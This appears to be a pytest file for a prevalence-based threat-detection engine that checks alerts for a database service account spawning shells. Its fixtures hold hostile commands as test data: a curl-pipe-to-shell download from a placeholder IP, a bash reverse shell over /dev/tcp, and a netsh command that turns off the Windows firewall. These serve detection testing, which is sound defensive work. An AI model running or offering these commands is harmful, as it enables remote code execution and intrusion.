"""A moment's news of accounts that cannot be modelled: what plainly means harm is told as a hunt tells it."""

from collections.abc import Iterable

import pytest
from prevalence_tables import DAYS, Ran, hosts, life, seen, started

from longtail.executions.sightings import sightings
from longtail.prevalence.findings import Alert, Severity
from longtail.prevalence.habits import habits
from longtail.prevalence.judgement import judged, meant
from longtail.prevalence.standing import Standing, standing
from longtail.prevalence.standing_harm import Watched
from longtail.settings import Settings

SHELL, POSTGRES = "/usr/bin/dash", "/usr/lib/postgresql/15/bin/postgres"
EXPLORER = "C:\\Windows\\explorer.exe"
FETCHED = "sh -c curl -fsSL http://198.51.100.7/pg.sh | sh"
BEFORE = DAYS[:-1]
LEARNT = [
    *life(hosts(40), BEFORE),
    *(Ran(name, "/usr/bin/gzip", BEFORE, "gzip -c wal", POSTGRES, account="postgres") for name in hosts(2, "pg")),
    *(
        Ran(name, rf"C:\Users\anna\tool{name}-{day}.exe", (day,), None, EXPLORER, account=r"CORP\anna")
        for name in hosts(12, "pc")
        for day in BEFORE
    ),
]


def of_database(line: str, host: str = "pg00", minute: float = 0.0) -> Ran:
    return Ran(host, SHELL, DAYS[-1:], line, POSTGRES, account="postgres", minute=minute)


def stands(accounts: tuple[str, ...] = ("auto",), *more: Ran) -> Standing:
    learnt = habits([seen([*LEARNT, *more])])
    return standing(learnt, Settings(), accounts, meant(learnt, Settings()))


def told(stands: Standing, watched: Watched, ran: Iterable[Ran]) -> tuple[Alert, ...]:
    """The alerts of a moment, of those that cannot be modelled."""
    _, left = stands.chosen.of(started(ran))
    return stands.harm.judged(sightings(stands.harm.suspected(left, watched)), watched).alerts


def test_it_is_told_as_a_hunt_tells_it() -> None:
    (alert,) = told(stands(), Watched(), [of_database(FETCHED)])
    (hunted,) = judged(seen([of_database(FETCHED)]), Settings(), ("auto",), seen(LEARNT)).alerts
    assert (alert.id, alert.host, alert.title, alert.severity) == (
        hunted.id, hunted.host, hunted.title, hunted.severity,
    )  # fmt: skip
    assert alert.score == pytest.approx(hunted.score, rel=0.05) and alert.severity >= Severity.MEDIUM
    now, then = (each.executions[-1].prevalence for each in (alert, hunted))
    assert now and then and (now.hosts, now.days, now.of_hosts) == (then.hosts, then.days, then.of_hosts)


@pytest.mark.parametrize("line", ["sh -c pg_dump shop | gzip > /var/backups/shop.gz", "sh -c id", "gzip -c wal"])
def test_what_is_merely_new_is_dropped_by_its_line(line: str) -> None:
    watched, on = Watched(), stands()
    assert on.harm.suspected(on.chosen.of(started([of_database(line)]))[1], watched).is_empty()
    assert told(on, watched, [of_database(line)]) == ()


def test_it_is_told_once_and_grows_with_what_follows() -> None:
    watched, on = Watched(), stands()
    (first,) = told(on, watched, [of_database(FETCHED)])
    assert told(on, watched, [of_database(FETCHED)]) == ()
    (grown,) = told(on, watched, [of_database("bash -c bash -i >& /dev/tcp/198.51.100.7/443 0>&1", minute=2)])
    assert grown.id == first.id and grown.score > first.score and len(grown.executions) > len(first.executions)


def test_what_was_done_before_is_no_news() -> None:
    before = Ran("pg00", SHELL, (3,), FETCHED, POSTGRES, account="postgres")
    assert told(stands(("auto",), before), Watched(), [of_database(FETCHED)]) == ()


def test_a_host_after_the_other_makes_nothing_normal() -> None:
    watched, on = Watched(), stands()
    found = [told(on, watched, [of_database(FETCHED, host=name)]) for name in ("pg00", "pg01", *hosts(12))]
    assert [len(each) for each in found] == [1] * len(found)
    scores = [alert.score for (alert,) in found]
    assert min(scores) >= scores[0] - 1.0


def test_what_many_do_is_lawful_here() -> None:
    line = "cmd.exe /c netsh advfirewall set allprofiles state off"
    shell = "C:\\Windows\\System32\\cmd.exe"
    many = [Ran(name, shell, (day % 8,), line, EXPLORER, account=r"CORP\anna")
            for day, name in enumerate(hosts(10, "pc"))]  # fmt: skip
    now = Ran("pc11", shell, DAYS[-1:], line, EXPLORER, account=r"CORP\anna")
    assert told(stands(("auto",), *many), Watched(), [now]) == ()
    assert told(stands(), Watched(), [now])


def test_only_accounts_that_were_asked_for_are_looked_at() -> None:
    assert told(stands(("mssql",)), Watched(), [of_database(FETCHED)]) == ()
    assert told(stands(("postgres",)), Watched(), [of_database(FETCHED)])


def test_lines_that_were_read_are_not_read_again_unless_they_mean_harm() -> None:
    watched, on = Watched(), stands()
    both = started([of_database("sh -c id"), of_database(FETCHED)])
    for _ in range(2):
        assert on.harm.suspected(both, watched)["command_line"].to_list() == [FETCHED]
        assert len(watched.harmless.known) == 1
